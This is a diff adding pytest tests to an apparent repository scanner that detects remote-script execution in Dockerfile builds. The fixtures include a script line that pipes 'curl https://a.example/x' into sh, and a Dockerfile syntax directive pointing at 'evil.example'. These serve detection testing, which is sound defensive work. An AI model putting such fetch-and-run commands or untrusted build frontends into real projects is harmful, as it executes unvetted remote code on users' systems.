@@ -87,6 +87,33 @@ def test_a_script_that_a_build_runs_is_followed(tmp_path: Path) -> None:
     assert "setup.sh, which RUN runs" in finding.message
 
 
+@pytest.mark.parametrize(
+    "how",
+    [
+        "RUN --mount=type=bind,source=tools/get.sh,target=/x.sh sh /x.sh",
+        "RUN --mount=target=/src /src/tools/get.sh",
+        "COPY tools/get.sh /usr/local/bin/other\nRUN other",
+        'COPY tools/get.sh /usr/bin/other\nENTRYPOINT ["other"]',
+    ],
+)
+def test_a_script_is_followed_whatever_it_is_called_where_it_runs(tmp_path: Path, how: str) -> None:
+    text = "#!/bin/sh\ncurl https://a.example/x | sh\n"
+    root = written(tmp_path, {".git/HEAD": "", "Dockerfile": f"FROM a\n{how}\n", "tools/get.sh": text})
+    assert {(rule, file, line) for rule, file, line, _ in said(check([root]))} == {
+        ("build/remote-script", "tools/get.sh", 2)
+    }
+
+
+def test_a_frontend_that_is_not_dockers_makes_the_look_incomplete(tmp_path: Path) -> None:
+    known = "# syntax=docker/dockerfile:1.7-labs\nFROM a\n"
+    unknown = "#!/usr/bin/env -S docker build -f\n# syntax = evil.example/docker/dockerfile\nFROM a\n"
+    root = written(tmp_path, {".git/HEAD": "", "a/Dockerfile": known, "b/Dockerfile": unknown})
+    [note] = check([root]).notifications
+    assert note.incomplete
+    assert note.path == b"b/Dockerfile"
+    assert "evil.example/docker/dockerfile" in note.message
+
+
 def test_the_steps_of_a_workflow_are_scripts(tmp_path: Path) -> None:
     text = (
         "on: push\njobs:\n  a:\n    steps:\n      - uses: x/y@v1\n        with:\n          note: |\n            "
